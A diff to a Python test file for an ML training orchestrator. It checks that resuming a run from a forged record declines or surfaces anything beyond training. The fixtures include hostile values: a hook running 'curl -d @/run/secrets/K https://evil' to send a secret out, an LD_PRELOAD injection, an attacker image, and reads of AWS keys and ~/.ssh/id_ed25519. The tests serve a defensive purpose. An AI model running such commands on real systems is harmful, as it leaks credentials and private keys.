@@ -1,11 +1,14 @@
 """What is deployed for a run to go on: on the machines as they are now."""
 
+import contextlib
+from collections.abc import Sequence
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from orchestrator.errors import RunError, SpecError
+from orchestrator.errors import DeclinedError, RunError, SpecError
 from orchestrator.node.facts import Facts
 from orchestrator.runs.control import again
 from orchestrator.runs.launch import Prepared, prepare
@@ -18,6 +21,12 @@ from tests.runs.folders import ENDED
 from tests.runs.test_prepare import taken_in
 from tests.support.clusters import sparks
 from training.contract.verdict import Verdict
+
+
+def nobody(lines: Sequence[str]) -> None:
+    """To be asked: nothing of what goes on is unusual."""
+    raise DeclinedError("\n".join(lines))
+
 
 TINY = load_stack("tiny-llama-lora", ("training.loop.max_steps=7",))
 
@@ -38,7 +47,7 @@ def made(stack: StackSpec = TINY, number: int = 2, **environ: str) -> Prepared:
 
 def test_it_goes_on_under_its_name_with_its_settings() -> None:
     first = made()
-    prepared = again(sparks(2), ended(first), taken_in(sparks(2)), {})
+    prepared = again(sparks(2), ended(first), taken_in(sparks(2)), nobody, {})
     assert prepared.rendered.run == first.rendered.run
     assert prepared.stack.training == TINY.training
     assert (prepared.anew, prepared.record.created) == (False, first.record.created)
@@ -53,7 +62,7 @@ def test_a_swarm_that_was_made_anew_is_no_hindrance() -> None:
         name: replace(facts, docker=facts.docker | {"Swarm": _renamed(facts)})  # type: ignore[operator]
         for name, facts in taken_in(sparks(2)).items()
     }
-    prepared = again(sparks(2), ended(made()), world, {})
+    prepared = again(sparks(2), ended(made()), world, nobody, {})
     assert "node.id == new-spark-b" in prepared.rendered.compose
 
 
@@ -63,38 +72,87 @@ def _renamed(facts: Facts) -> dict[str, Any]:
 
 
 def test_machines_that_came_since_are_left_out() -> None:
-    prepared = again(sparks(3), ended(made()), taken_in(sparks(3)), {})
+    prepared = again(sparks(3), ended(made()), taken_in(sparks(3)), nobody, {})
     assert [rank.node for rank in prepared.ranks] == ["spark-a", "spark-b"]
 
 
 def test_other_machines_do_not_have_its_checkpoints() -> None:
     run = ended(made(number=3))
     with pytest.raises(RunError, match="would not be where they were") as caught:
-        again(sparks(2), run, taken_in(sparks(2)), {})
+        again(sparks(2), run, taken_in(sparks(2)), nobody, {})
     assert "rank 2 on spark-c" in str(caught.value.details)
 
 
 def test_the_secrets_that_it_had_must_be_there_again() -> None:
     stack = load_stack("tiny-llama-lora", ("secrets=[{name: CHAT}]",))
     run = ended(made(stack, CHAT="x"))
+
+    def agree(lines: Sequence[str]) -> None:
+        assert lines == ["secret CHAT: reads the variable CHAT of this computer"]
+
     with pytest.raises(SpecError, match="was started with the secret CHAT"):
-        again(sparks(2), run, taken_in(sparks(2)), {})
-    assert again(sparks(2), run, taken_in(sparks(2)), {"CHAT": "y"}).secrets == {"CHAT": "y"}
+        again(sparks(2), run, taken_in(sparks(2)), agree, {})
+    went_on = again(sparks(2), run, taken_in(sparks(2)), agree, {"CHAT": "y"})
+    assert went_on.secrets == {"CHAT": "y"}
     without = ended(made(stack))
-    assert again(sparks(2), without, taken_in(sparks(2)), {}).secrets == {}
+    assert again(sparks(2), without, taken_in(sparks(2)), agree, {}).secrets == {}
+
+
+@pytest.mark.parametrize(
+    ("change", "line"),
+    [
+        ({"base_image": "evil/image"}, "evil/image"),
+        ({"env": {"LD_PRELOAD": "/x.so"}}, "LD_PRELOAD=/x.so"),
+        ({"gang": {"hooks": [{"command": ["curl", "-d", "@/run/secrets/K", "https://evil"]}]}},
+         "curl -d @/run/secrets/K https://evil"),
+        ({"gang": {"hooks": [{"url": "https://evil"}]}}, "https://evil"),
+        ({"secrets": [{"name": "AWS_SECRET_ACCESS_KEY"}]}, "AWS_SECRET_ACCESS_KEY"),
+        ({"secrets": [{"name": "K", "file": "~/.ssh/id_ed25519"}]}, "secret K"),
+        ({"name": "tiny-llama-lora.yaml"}, None),
+        ({"name": "a-recipe-of-mine"}, None),
+        ({}, None),
+    ],
+)  # fmt: skip
+def test_what_a_record_would_do_beyond_training_is_asked(
+    change: dict[str, Any], line: str | None
+) -> None:
+    """S1 b: a record that somebody forged on a node decides no code, no image, no secret."""
+    first = made()
+    run = ended(first, stack=first.record.stack | change)
+    environ = {"AWS_SECRET_ACCESS_KEY": "theirs"}
+    if line is None:
+        with contextlib.suppress(RunError):  # a name that no recipe can have
+            assert again(sparks(2), run, taken_in(sparks(2)), nobody, environ).secrets == {}
+        return
+    with pytest.raises(DeclinedError) as caught:
+        again(sparks(2), run, taken_in(sparks(2)), nobody, environ)
+    assert line in caught.value.brief
+
+
+def test_no_file_of_this_computer_is_read_because_a_record_names_it(tmp_path: Path) -> None:
+    """S1 b: not even when somebody says yes."""
+    key = tmp_path / "id_ed25519"
+    key.write_text("a private key")
+    key.chmod(0o600)
+    first = made()
+    secrets = [{"name": "K", "file": str(key)}, {"name": "L", "file": str(key)}]
+    run = ended(first, stack=first.record.stack | {"secrets": secrets})
+    went_on = again(sparks(2), run, taken_in(sparks(2)), lambda _: None, {"L": "given"})
+    assert went_on.secrets == {"L": "given"}
+    assert str(key) not in went_on.record.model_dump_json()
 
 
 def test_what_runs_or_has_succeeded_is_left_alone() -> None:
     first = made()
     with pytest.raises(RunError, match="nothing to go on with"):
-        again(sparks(2), ended(first, "succeeded"), taken_in(sparks(2)), {})
+        again(sparks(2), ended(first, "succeeded"), taken_in(sparks(2)), nobody, {})
     running = ended(first, None, (Task(0, "running"), Task(1, "running")))
     with pytest.raises(RunError, match="is running") as caught:
-        again(sparks(2), running, taken_in(sparks(2)), {})
+        again(sparks(2), running, taken_in(sparks(2)), nobody, {})
     assert "runs follow" in str(caught.value.resolution)
 
 
 def test_a_record_of_another_version_is_told() -> None:
     run = ended(made(), stack={"name": "x", "of": "the future"})
     with pytest.raises(RunError, match="another version of sparkctl"):
-        again(sparks(2), run, taken_in(sparks(2)), {})
+        again(sparks(2), run, taken_in(sparks(2)), nobody, {})
